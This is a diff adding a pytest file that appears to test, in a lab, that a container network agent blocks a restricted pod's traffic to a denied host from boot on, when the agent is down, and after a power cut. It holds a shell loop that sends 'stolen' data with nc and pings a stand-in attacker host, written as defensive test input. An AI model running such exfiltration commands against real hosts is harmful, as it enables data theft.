@@ -1,0 +1,60 @@
+"""Fail closed around a boot: what a pod must not reach it never reaches, from its first packet on."""
+
+from __future__ import annotations
+
+import pytest
+
+from e2e.demo import LISTED, Home
+from lab.cni import CniError
+from lab.router import ATTACKER
+from lab.shell import wait_until
+
+pytestmark = [pytest.mark.root, pytest.mark.lab]
+
+# Knocks at the attacker from its first instruction on, by TCP, UDP and ping.
+KNOCKING = [
+    "sh",
+    "-c",
+    "while :; do "
+    f"nc -z -w 1 {ATTACKER} 443 & echo stolen | nc -u -w 1 {ATTACKER} 9000 & ping -c 1 -W 1 {ATTACKER} & sleep 0.05; "
+    "done",
+]
+
+
+def test_a_pod_reaches_nothing_denied_from_its_first_packet_on(home: Home) -> None:
+    lab = home.lab
+    with lab.capture("n3", f"host {ATTACKER}") as wire:
+        thief = lab.pod("n3", "openclaw", "thief", {"app": "openclaw"}, KNOCKING)
+        allowed = thief.get(LISTED)
+        thief.delete()
+    assert allowed.status == 200, allowed
+    assert wire.frames() == []
+
+
+def test_without_the_agent_no_pod_starts_and_nothing_is_left(home: Home) -> None:
+    node = home.lab.node("n3")
+    node.run("systemctl stop netstack-agent")
+    links = node.run("ip -br link").stdout
+    late = home.lab.pod("n3", "openclaw", "late", {"app": "openclaw"}, start=False)
+    with pytest.raises(CniError) as refused:
+        late.start()
+    assert "netstack-agent" in str(refused.value)
+    assert node.run("ip -br link").stdout == links
+    node.run("systemctl start netstack-agent")
+    late.start()
+    late.delete()
+
+
+def test_after_a_power_cut_a_restricted_pod_comes_back_restricted(home: Home) -> None:
+    lab = home.lab
+    thief = lab.pod("n3", "openclaw", "thief", {"app": "openclaw"}, KNOCKING)
+    lab.powercut("n3")
+    lab.boot("n3")
+    node = lab.node("n3")
+    wait_until(lambda: node.run("netstack status", check=False).returncode == 0, "the node to be ready again", 30)
+    with lab.capture("n3", f"host {ATTACKER}") as wire:
+        thief.start()
+        allowed = thief.get(LISTED)
+        thief.delete()
+    assert allowed.status == 200, allowed
+    assert wire.frames() == []
